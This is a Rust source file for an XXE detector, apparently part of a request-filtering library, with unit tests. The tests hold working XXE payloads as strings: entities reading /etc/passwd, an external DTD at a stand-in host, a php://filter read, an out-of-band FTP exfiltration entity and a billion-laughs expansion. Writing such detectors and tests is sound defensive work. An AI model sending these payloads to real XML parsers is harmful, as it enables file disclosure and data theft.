//! XML external entities.
//!
//! Method: on XML bodies and on any value holding markup declarations, find `<!ENTITY` and
//! `<!DOCTYPE` declarations (case-insensitive, as lenient parsers read them). An entity or
//! doctype with an external identifier (`SYSTEM` or `PUBLIC`), a parameter entity (`<!ENTITY %`)
//! or an XInclude (`xi:include`, the XInclude namespace) is XXE at level 1; an internal subset
//! declaring entities at all (entity expansion, "billion laughs") at level 2.

use super::{Hit, Value, L2};

/// Bytes after `<!ENTITY` or `<!DOCTYPE` searched for the external identifier; a declaration
/// is one line of a few hundred bytes.
const MAX_DECLARATION_BYTES: usize = 1024;

/// XXE detector.
pub(crate) struct Xxe;

impl Xxe {
    pub(crate) fn detect(&self, v: &Value<'_>, level: u8) -> Option<Hit> {
        let s = v.lower;
        for needle in [&b"xi:include"[..], b"http://www.w3.org/2001/xinclude"] {
            if let Some(at) = memchr::memmem::find(s, needle) {
                return Some(Hit::at("xxe.xinclude", at, at + needle.len()));
            }
        }
        let mut first_entity = None;
        for needle in [&b"<!entity"[..], b"<!doctype"] {
            for at in memchr::memmem::find_iter(s, needle) {
                first_entity = first_entity.or((needle == b"<!entity").then_some(at));
                let decl_end = memchr::memchr(b'>', &s[at..])
                    .map_or(s.len(), |n| at + n)
                    .min(at + MAX_DECLARATION_BYTES);
                let decl = &s[at + needle.len()..decl_end];
                let external = [
                    &b" system"[..],
                    b"\tsystem",
                    b"\nsystem",
                    b" public",
                    b"\npublic",
                    b"\tpublic",
                ]
                .iter()
                .any(|k| memchr::memmem::find(decl, k).is_some());
                let parameter = needle == b"<!entity" && decl.trim_ascii_start().starts_with(b"%");
                if external || parameter {
                    return Some(Hit::at("xxe.external-entity", at, decl_end.min(s.len())));
                }
            }
        }
        match first_entity {
            Some(at) if level >= L2 => Some(Hit::at("xxe.entity", at, s.len())),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::test_util::value_of;
    use super::super::L1;
    use super::*;
    use crate::fields::Kind;

    fn rule(body: &str, level: u8) -> Option<&'static str> {
        let mut out = None;
        value_of(Kind::XmlBody, "", body, |v| {
            out = Xxe.detect(v, level).map(|h| h.rule)
        });
        out
    }

    #[test]
    fn external_entities() {
        for attack in [
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE foo [<!ENTITY % dtd SYSTEM \"http://x/evil.dtd\"> %dtd;]>",
            "<!entity  xxe PUBLIC \"-//x\" \"http://x/\">",
            "<!DOCTYPE r SYSTEM \"http://x/dtd\">",
            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "<!ENTITY % data SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hostname\">",
            "<!ENTITY % param1 '<!ENTITY exfil SYSTEM \"ftp://x/%data;\">'>",
        ] {
            assert!(rule(attack, L1).is_some(), "{attack}");
        }
    }

    #[test]
    fn entity_expansion_from_level_2() {
        let lol = "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]><lolz>&lol2;</lolz>";
        assert_eq!(rule(lol, L1), None);
        assert_eq!(rule(lol, L2), Some("xxe.entity"));
    }

    #[test]
    fn tricky_benign() {
        for benign in [
            "<?xml version=\"1.0\"?><order><id>1</id><note>system public</note></order>",
            "<!DOCTYPE html><html><body>hi</body></html>",
            "<soap:Envelope><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>",
        ] {
            assert_eq!(rule(benign, L2), None, "{benign}");
        }
    }
}
